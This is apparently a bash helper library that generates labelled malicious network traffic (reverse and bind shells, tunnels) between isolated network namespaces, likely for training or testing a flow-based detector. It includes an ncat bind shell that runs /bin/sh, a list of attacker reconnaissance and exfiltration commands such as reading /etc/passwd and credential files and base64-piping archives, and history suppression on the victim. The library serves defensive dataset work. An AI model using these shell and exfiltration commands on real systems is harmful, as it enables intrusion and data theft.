# corpus/threats/malicious.bash: what the MALICIOUS-class generators share (reverse and
# bind shells, shells over TLS, DNS, ICMP and HTTP tunnels). Sourced after
# corpus/lib/netns.sh; named .bash so that make-captures does not run it as a generator.
#
#   mal_init CLASS OUTDIR DEFAULT_SESSIONS
#                       checks FC_BATCH/FC_SEED, brings the namespaces up, makes
#                       MAL_OUT=OUTDIR/CLASS/FC_BATCH, a scratch folder MAL_WORK (removed
#                       on exit) with the victim's files, and one address pair per
#                       session (see mal_session_ips); the number of sessions is
#                       FC_SESSIONS if set (the short test-sample runs), else
#                       DEFAULT_SESSIONS, in MAL_SESSIONS
#   rand LO HI          a number in LO..HI, the next of the seeded sequence
#                       (corpus/lib/seeded.sh: FC_SEED's, or the session's)
#   nap_ms LO_MS HI_MS  sleeps a random duration, without starting a process (an
#                       operator typing key by key would otherwise start two a key):
#                       from $RANDOM, so timings are not seeded, what is done is
#   pick WORD...        one of the words (the seeded sequence)
#   mal_session_ips I   sets CLI_IP and SRV_IP, the addresses session I uses
#   run_sessions WORKERS FUNC
#                       calls FUNC I for I in 1..MAL_SESSIONS, WORKERS at a time; each
#                       session has its own sequence, seeded from FC_SEED and I, so what a
#                       session does is the same whatever the parallelism
#   stop_all PID...     ends the processes last started first (a tunnel's client before
#                       its server, so the client does not reconnect in vain)
#   mal_commands N      N shell commands an attacker might run on the victim, one a line
#   operator_lines      stdin: command lines; stdout: the same lines as an operator at a
#                       line-buffered terminal sends them (pauses of 0.2-3 s, sometimes an
#                       idle gap), then "exit"; stdout stays open a moment after
#   operator_keys       the same, but key by key (a raw terminal of a pty shell: every key
#                       is its own segment, echoed by the victim's pty)
#   wait_port NS IP PORT [udp]  waits until something listens on IP:PORT (TCP, or UDP)
#                       in namespace NS (srv or cli); IP "any": on PORT, whatever the
#                       address
#   ns_run NS FUNC ARG...   runs FUNC (a command or an exported function) in namespace NS
#                       (srv or cli), killed after MAL_TIMEOUT seconds (default 300)
#   ns_start NS FUNC ARG... the same in the background; $! is then its process (kill it
#                       to end FUNC)
#   reverse PORT FEEDER LISTENER VICTIM
#                       a reverse shell: LISTENER PORT (the attacker, client namespace)
#                       reads FEEDER's keys; VICTIM PORT (server namespace) connects to
#                       CLI_IP:PORT with a shell; FEEDER gets the commands on stdin and
#                       starts once the connection is established
#   bind PORT FEEDER LISTENER CONNECTOR
#                       a bind shell: LISTENER PORT (the victim, server namespace) serves
#                       a shell on SRV_IP:PORT, CONNECTOR PORT (the attacker) connects
#   mal_done            says how many sessions the capture holds (those that failed twice
#                       are left out) and how long it took
#
# Why one address pair per session: the flow key of ICMP has no ports, and a flow
# detector sees one tunnel run between two hosts as one flow; giving each session its own
# pair keeps concurrent sessions apart in every class, and lets a reader tell the
# sessions of a capture apart by address.

# shellcheck source=../lib/seeded.sh
source "$(dirname "${BASH_SOURCE[0]}")/../lib/seeded.sh"

mal_init() {
    local class=$1 outdir=$2 default=$3 i
    [ -n "$outdir" ] || { netns_say "usage: ${0##*/} OUTDIR (FC_BATCH, FC_SEED in the environment)"; exit 2; }
    : "${FC_BATCH:?FC_BATCH (b1, b2, b3 or t) must be set}" "${FC_SEED:?FC_SEED must be set}"
    MAL_CLASS=$class
    MAL_SESSIONS=${FC_SESSIONS:-$default}
    [ "$MAL_SESSIONS" -ge 1 ] && [ "$MAL_SESSIONS" -le 250 ] ||
        { netns_say "FC_SESSIONS must be 1..250 (one address pair each)"; exit 2; }
    MAL_OUT=$outdir/$class/$FC_BATCH
    mkdir -p "$MAL_OUT" && MAL_OUT=$(cd "$MAL_OUT" && pwd) || exit 3
    MAL_WORK=$(mktemp -d /tmp/fcgen-mal.XXXXXX) || exit 3
    seeded_start "$FC_SEED" "$MAL_WORK/draws"
    mkfifo "$MAL_WORK/nap" && exec {MAL_NAP_FD}<> "$MAL_WORK/nap" || exit 3
    MAL_START=$(date +%s)
    netns_up
    trap 'netns_down; rm -rf "$MAL_WORK"' EXIT
    for i in $(seq "$MAL_SESSIONS"); do mal_add_pair "$i"; done
    mal_victim_files
}

# Session I: client 10.77.1.I, server 10.77.2.I, each a /32 on the veth with a host route
# that makes it the source towards the other one (so even raw ICMP sockets use it).
mal_session_ips() { CLI_IP=10.77.1.$1; SRV_IP=10.77.2.$1; }

mal_add_pair() {
    mal_session_ips "$1"
    ip -n "$NETNS_CLI" addr add "$CLI_IP/32" dev "$NETNS_CLI_DEV"
    ip -n "$NETNS_SRV" addr add "$SRV_IP/32" dev "$NETNS_SRV_DEV"
    ip -n "$NETNS_CLI" route add "$SRV_IP/32" dev "$NETNS_CLI_DEV" src "$CLI_IP"
    ip -n "$NETNS_SRV" route add "$CLI_IP/32" dev "$NETNS_SRV_DEV" src "$SRV_IP"
}

# Files on the "victim" for the attacker to read and exfiltrate: text and binary of
# sizes from a few hundred bytes to a few hundred KB, different in every batch.
mal_victim_files() {
    local i size
    MAL_VICTIM=$MAL_WORK/victim
    mkdir -p "$MAL_VICTIM/home" "$MAL_VICTIM/data"
    for i in 1 2 3 4 5 6; do
        size=$(( ($(seeded_draw) % 40 + 1) * (i * i * 150) ))
        head -c "$size" /dev/urandom > "$MAL_VICTIM/data/blob$i.bin"
        head -c "$size" /dev/urandom | base64 -w 76 > "$MAL_VICTIM/data/notes$i.txt"
    done
    cp /etc/services "$MAL_VICTIM/data/services.conf" 2>/dev/null
    printf 'db_host=10.0.3.%d\ndb_user=app\ndb_pass=%s\n' $(($(seeded_draw) % 250)) "$(head -c 12 /dev/urandom | base64)" \
        > "$MAL_VICTIM/data/config.ini"
    # the victim's shells: no history written anywhere, a prompt of their own
    printf 'PS1="\\u@%s:\\w\\$ "\nHISTFILE=/dev/null\n' "$(pick web01 db-prod app3 build-07 ws-114 fileserver)" \
        > "$MAL_VICTIM/home/.bashrc"
    export HOME=$MAL_VICTIM/home HISTFILE=/dev/null
    cd "$HOME" || exit 3
}

export MAL_WORK MAL_VICTIM
rand() { echo $(( $1 + $(seeded_draw) % ($2 - $1 + 1) )); }
nap_ms() {
    local ms=$(( $1 + RANDOM % ($2 - $1 + 1) )) secs
    printf -v secs '%d.%03d' $((ms / 1000)) $((ms % 1000))
    read -r -t "$secs" -u "$MAL_NAP_FD" _     # a fifo nobody writes: times out
}
pick() { shift $(($(seeded_draw) % $#)); echo "$1"; }

run_sessions() {
    local workers=$1 func=$2 i p running pids=()
    for i in $(seq "$MAL_SESSIONS"); do
        while :; do
            running=0
            for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && running=$((running + 1)); done
            [ "$running" -lt "$workers" ] && break
            sleep 0.2
        done
        # one retry: on a loaded machine a program may start too slowly for its session
        ( seeded_start $((FC_SEED * 1000 + i)) "$MAL_WORK/draws.$i"; RANDOM=$((FC_SEED * 1000 + i))
          mal_session_ips "$i"; export CLI_IP SRV_IP
          "$func" "$i" || { netns_say "session $i: once more"; "$func" "$i"; } ||
              { netns_say "session $i: failed twice, left out"; echo "$i" >> "$MAL_WORK/failed"; } ) &
        pids+=($!)
    done
    # only the sessions: the capture's tcpdump is a background job of this shell too
    for p in "${pids[@]}"; do wait "$p"; done
}

# One command of the attacker's repertoire: reconnaissance, reading and exfiltrating the
# victim's files, with sizes that vary.
mal_command() {
    local d=$MAL_VICTIM/data n
    n=$(rand 1 6)
    case $(rand 0 27) in
    0) echo id ;;
    1) echo whoami ;;
    2) echo "uname -a" ;;
    3) echo hostname ;;
    4) echo pwd ;;
    5) echo "ls -la $(pick /etc /var/log /usr/bin /tmp "$d" /root /usr/share/doc) | head -n $(rand 5 120)" ;;
    6) echo "ps aux | head -n $(rand 5 60)" ;;
    7) echo "cat /etc/passwd" ;;
    8) echo "cat /etc/os-release" ;;
    9) echo "env" ;;
    10) echo "df -h" ;;
    11) echo "ip addr" ;;
    12) echo "ss -tan" ;;
    13) echo "cat $d/notes$n.txt" ;;
    14) echo "base64 $d/blob$n.bin" ;;
    15) echo "find /usr/share/doc -maxdepth 2 -name '*.gz' | head -n $(rand 5 200)" ;;
    16) echo "tar czf - $d 2>/dev/null | base64 | head -c $(rand 1000 200000)" ;;
    17) echo "wc -l /etc/services $d/*" ;;
    18) echo "grep -i $(pick root bin nologin daemon) /etc/passwd" ;;
    19) echo "cat $d/config.ini" ;;
    20) echo "head -n $(rand 10 400) $d/services.conf" ;;
    21) echo "which python3 perl gcc curl wget nc" ;;
    22) echo "cat /proc/cpuinfo | head -n $(rand 5 30)" ;;
    23) echo "cd $(pick /tmp /var/tmp "$d" /etc); ls" ;;
    24) echo "md5sum $d/blob$n.bin $d/notes$n.txt" ;;
    25) echo "cat /etc/hosts /etc/resolv.conf" ;;
    26) echo "ls -R /usr/share/doc | head -n $(rand 20 400)" ;;
    27) echo "last -n $(rand 3 20); w" ;;
    esac
}

mal_commands() { local i; for i in $(seq "$1"); do mal_command; done; }

# pauses as an operator's: mostly 0.2-3 s of reading and typing, one in eight an idle gap
operator_pause() {
    if [ $((RANDOM % 8)) -eq 0 ]; then nap_ms 4000 12000; else nap_ms 200 3000; fi
}

operator_lines() {
    local line
    nap_ms 300 1500
    while IFS= read -r line; do
        printf '%s\n' "$line"
        operator_pause
    done
    echo exit
    sleep 1
}

operator_keys() {
    local line i fast
    fast=$((25 + RANDOM % 66))  # this operator's typical gap between keys, ms
    nap_ms 300 1500
    while IFS= read -r line; do
        line+=$'\r'
        for ((i = 0; i < ${#line}; i++)); do
            printf '%s' "${line:i:1}"
            nap_ms "$fast" $((fast * 5 / 2))
        done
        operator_pause
    done
    printf 'exit\r'
    sleep 1
}

wait_port() {
    local ns=$1 ip=$2 port=$3 netns end=$((SECONDS + 60)) filter kind=-Hltn
    [ "${4:-}" = udp ] && kind=-Hlun
    filter="sport = :$port"
    [ "$ip" = any ] || filter="src $ip and $filter"
    if [ "$ns" = srv ]; then netns=$NETNS_SRV; else netns=$NETNS_CLI; fi
    # by the clock: ip netns exec itself can take a second on a loaded machine
    while [ "$SECONDS" -lt "$end" ]; do
        ip netns exec "$netns" ss "$kind" "$filter" 2>/dev/null | grep -q . && return 0
        sleep 0.3
    done
    netns_say "session: nothing listens on $ip:$port in $ns after 60 s"
    return 1
}

stop_all() {
    local k
    for ((k = $#; k >= 1; k--)); do kill "${!k}" 2>/dev/null; sleep 0.2; done
    wait "$@" 2>/dev/null
    return 0
}

ns_run() {
    local ns=$1
    shift
    if [ "$ns" = srv ]; then ns=$NETNS_SRV; else ns=$NETNS_CLI; fi
    timeout "${MAL_TIMEOUT:-300}" ip netns exec "$ns" bash -c '"$@"' _ "$@"
}

ns_start() {
    local ns=$1
    shift
    if [ "$ns" = srv ]; then ns=$NETNS_SRV; else ns=$NETNS_CLI; fi
    timeout "${MAL_TIMEOUT:-300}" ip netns exec "$ns" bash -c '"$@"' _ "$@" > /dev/null 2>&1 &
}

# typing key by key takes longer: fewer commands then
how_many() { if [ "$1" = operator_keys ]; then rand 2 5; else rand 3 10; fi; }

# The operator starts typing once the shell's connection is up (not when the programs
# start: on a loaded machine they can take seconds, and the commands would pile up).
# The attacker reads the operator from a fifo, held open here until the operator is done.
reverse() {
    local port=$1 feeder=$2 listener=$3 victim=$4 a v w fifo=$MAL_WORK/op-$CLI_IP-$1
    rm -f "$fifo"   # left by a failed first try of this session
    mkfifo "$fifo" && exec {w}<> "$fifo" || return 1
    ns_run cli "$listener" "$port" < "$fifo" > /dev/null 2>&1 {w}>&- &
    a=$!
    wait_port cli "$CLI_IP" "$port" || { exec {w}>&-; kill "$a"; return 1; }
    ns_run srv "$victim" "$port" > /dev/null 2>&1 {w}>&- &
    v=$!
    wait_connected "src $CLI_IP and sport = :$port" &&
        mal_commands "$(how_many "$feeder")" | $feeder >&"$w"
    exec {w}>&-
    wait "$v" "$a"
}

bind() {
    local port=$1 feeder=$2 listener=$3 connector=$4 v a w fifo=$MAL_WORK/op-$CLI_IP-$1
    rm -f "$fifo"   # left by a failed first try of this session
    mkfifo "$fifo" && exec {w}<> "$fifo" || return 1
    ns_run srv "$listener" "$port" > /dev/null 2>&1 {w}>&- &
    v=$!
    wait_port srv "$SRV_IP" "$port" || { exec {w}>&-; kill "$v"; return 1; }
    ns_run cli "$connector" "$port" < "$fifo" > /dev/null 2>&1 {w}>&- &
    a=$!
    wait_connected "dst $SRV_IP and dport = :$port" &&
        mal_commands "$(how_many "$feeder")" | $feeder >&"$w"
    exec {w}>&-
    wait "$a" "$v"
}

# waits until the client namespace has an established TCP connection matching FILTER
wait_connected() {
    local end=$((SECONDS + 60))
    while [ "$SECONDS" -lt "$end" ]; do
        ip netns exec "$NETNS_CLI" ss -Htn state established "$1" 2>/dev/null | grep -q . && return 0
        sleep 0.3
    done
    netns_say "session: no connection ($1) after 60 s"
    return 1
}

mal_done() {
    local failed=0
    [ -f "$MAL_WORK/failed" ] && failed=$(wc -l < "$MAL_WORK/failed")
    netns_say "$MAL_CLASS $FC_BATCH: $((MAL_SESSIONS - failed)) of $MAL_SESSIONS sessions in $(( $(date +%s) - MAL_START )) s -> $MAL_OUT"
}

# The tunnel classes' two ends of a session, on HOST PORT at the far end of the tunnel: on the
# victim a shell served by ncat, or the victim's files served by python's http.server; on
# the attacker ncat typing into that shell.
tunnel_target_shell() { ncat -n -l -k "$1" "$2" -e "$(pick /bin/sh /bin/bash)"; }
tunnel_target_web()   { cd "$MAL_VICTIM/data" && exec /usr/bin/python3 -m http.server --bind "$1" "$2"; }
tunnel_use_shell()    { ncat -n "$1" "$2"; }

# tunnel_downloads HOST:PORT MAX_TIME LAST [varied-rate]: 1-4 downloads of the victim's files
# (blob1..LAST, notes1..LAST) through the tunnel at an operator's pace; varied-rate: one in
# three limited to 20-200 KB/s.
tunnel_downloads() {
    local where=$1 max_time=$2 last=$3 varied=${4:-} n i
    n=$(rand 1 4)
    nap_ms 300 1500
    for i in $(seq "$n"); do
        # shellcheck disable=SC2046  # the limit is two words or none
        in_cli curl -s -o /dev/null --max-time "$max_time" \
            "http://$where/$(pick blob notes)$(rand 1 "$last").$(pick bin txt)" \
            $([ -n "$varied" ] && pick "" "" "--limit-rate $(rand 20 200)k")
        operator_pause
    done
}

# the victims' and attackers' functions run in a bash of their own (ns_run)
export -f rand pick tunnel_target_shell tunnel_target_web tunnel_use_shell
